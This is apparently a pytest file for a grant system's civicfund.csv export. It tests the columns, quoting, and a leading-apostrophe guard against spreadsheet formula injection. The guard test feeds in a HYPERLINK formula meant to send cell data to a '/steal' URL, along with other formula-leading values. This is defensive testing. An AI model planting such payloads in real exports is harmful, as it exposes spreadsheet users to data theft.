"""The civicfund.csv output: one row per partnership, quoted, guarded against formulas."""

from __future__ import annotations

import csv
import io

import pytest
from conftest import REGISTER
from conftest import RIVERSIDE
from conftest import MakeEngine
from partnerrules_civicfund.outputs import COLUMNS
from partnerrules_civicfund.outputs import render_csv

from partnerrules import Engine
from partnerrules import OutputOptions
from partnerrules import Report

SETTINGS = {"register": str(REGISTER), "as_of": "2026-03-31"}


def rows(text: str) -> list[list[str]]:
    """Parse CSV text the way a grant system would."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture
def engine(make_engine: MakeEngine) -> Engine:
    """The Fund's ruleset beside the shipped ones its grant system reads."""
    return make_engine(["civicfund", "stages", "success-factors", "agreement"], SETTINGS)


def named(engine: Engine, name: str, origin: str = "facts.toml") -> Report:
    """Evaluate the Riverside facts under another partnership name."""
    facts = engine.load_facts(RIVERSIDE)
    facts["partnership"] = {**facts["partnership"], "name": name}  # type: ignore[dict-item]
    return engine.evaluate(facts, origin=origin)


def test_the_output_is_registered_by_the_plugin(engine: Engine) -> None:
    """`--format civicfund.csv` comes from the civicfund plugin, as a .csv file."""
    spec = engine.registry.outputs["civicfund.csv"]
    assert (spec.plugin, spec.extension) == ("civicfund", ".csv")


def test_one_row_per_partnership_after_a_header(engine: Engine) -> None:
    """Each column is filled from the report's assessments."""
    facts = engine.load_facts(RIVERSIDE)
    report = engine.evaluate(facts, origin=str(RIVERSIDE))
    text = engine.registry.outputs["civicfund.csv"].render([report, report], OutputOptions())
    header, first, second = rows(text)
    assert tuple(header) == COLUMNS
    assert first == second
    row = dict(zip(COLUMNS, first, strict=True))
    stages = report.assessment("stages").outcome
    success = report.assessment("success-factors").outcome
    assert stages is not None
    assert success is not None
    assert row == {
        "partnership": "Riverside Youth Partnership",
        "facts": str(RIVERSIDE),
        "civicfund_band": "eligible",
        "civicfund_score": "1.000",
        "civicfund_coverage": "1.000",
        "stage": stages.id,
        "success_factors_band": success.id,
        "agreement_completeness": "1.000",
        "evidence_to_request": str(len(report.evidence_to_request())),
    }
    assert int(row["evidence_to_request"]) > 0
    assert text.endswith("\n")


def test_cells_are_empty_for_rulesets_that_did_not_run(make_engine: MakeEngine) -> None:
    """Auditing with the Fund's ruleset alone leaves the other columns empty."""
    engine = make_engine(["civicfund"], SETTINGS)
    report = engine.evaluate({"partnership": {"name": "Quayside"}})
    (_, row) = rows(render_csv([report], OutputOptions()))
    assert row == ["Quayside", "", "undetermined", "", "0.000", "", "", "", row[-1]]
    assert int(row[-1]) > 0


def test_cells_are_quoted(engine: Engine) -> None:
    """Commas, quotes and line breaks in a name survive the round trip through CSV."""
    name = 'Smith, Jones & "Partners"\nNorth'
    text = render_csv([named(engine, name, origin="dir, with comma/facts.toml")], OutputOptions())
    assert '"Smith, Jones & ""Partners""\nNorth"' in text
    (_, row) = rows(text)
    assert row[:2] == [name, "dir, with comma/facts.toml"]


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://example.org/steal?d="&A1,"Click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_values_that_a_spreadsheet_would_run_are_guarded(engine: Engine, name: str) -> None:
    """A leading ', as spreadsheets expect, makes a would-be formula plain text."""
    (_, row) = rows(render_csv([named(engine, name, origin=name)], OutputOptions()))
    assert row[:2] == [f"'{name}", f"'{name}"]


@pytest.mark.parametrize("name", ["Riverside = good", "A-Team", "'quoted'", "1 + 1"])
def test_ordinary_values_are_left_alone(engine: Engine, name: str) -> None:
    """Only a value that starts with a formula character is changed."""
    (_, row) = rows(render_csv([named(engine, name)], OutputOptions()))
    assert row[0] == name
